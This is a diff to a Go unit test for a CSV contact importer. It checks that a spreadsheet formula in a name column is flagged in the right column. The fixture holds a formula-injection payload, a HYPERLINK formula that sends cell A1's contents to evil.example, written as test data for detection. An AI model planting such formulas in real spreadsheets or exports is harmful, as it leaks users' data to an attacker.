@@ -30,7 +30,8 @@ func TestActionNetworkExtraColumnsAreNotRead(t *testing.T) {
 
 // TestTwoPeopleNoteNamesTheirColumn: a sign of two people in the family-name column
 // (the & of "Jones & Smith", or of a spreadsheet formula) was said of the first-name
-// column, "Evil" (tester t3's F9): the note names the column that has it.
+// column, "Evil" (tester t3's F9): the note names the column that has it. A formula
+// is no name at all since (tester t8): its note, too, names its column.
 func TestTwoPeopleNoteNamesTheirColumn(t *testing.T) {
 	sheet := "First Name,Last Name,Email\n" +
 		"Evil,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",evil@example.org\n" +
@@ -41,13 +42,16 @@ func TestTwoPeopleNoteNamesTheirColumn(t *testing.T) {
 	}
 	var got []string
 	for _, n := range in.ValueNotes {
-		if strings.Contains(n.Why, "may be two people") {
-			got = append(got, fmt.Sprintf("%d:%d:%s:%s", n.Line, n.Column, n.Name, n.Value))
+		for _, why := range []string{"may be two people", "a spreadsheet formula, no name"} {
+			if strings.Contains(n.Why, why) {
+				got = append(got, fmt.Sprintf("%d:%d:%s:%s: %s", n.Line, n.Column, n.Name, n.Value, why))
+			}
 		}
 	}
-	want := []string{`2:2:Last Name:=HYPERLINK("http://evil.example/?"&A1,"click")`, "3:1:First Name:Bob & Linda"}
+	want := []string{`2:2:Last Name:=HYPERLINK("http://evil.example/?"&A1,"click"): a spreadsheet formula, no name`,
+		"3:1:First Name:Bob & Linda: may be two people"}
 	if !slices.Equal(got, want) {
-		t.Errorf("two-people notes %q; want %q", got, want)
+		t.Errorf("notes %q; want %q", got, want)
 	}
 }
 
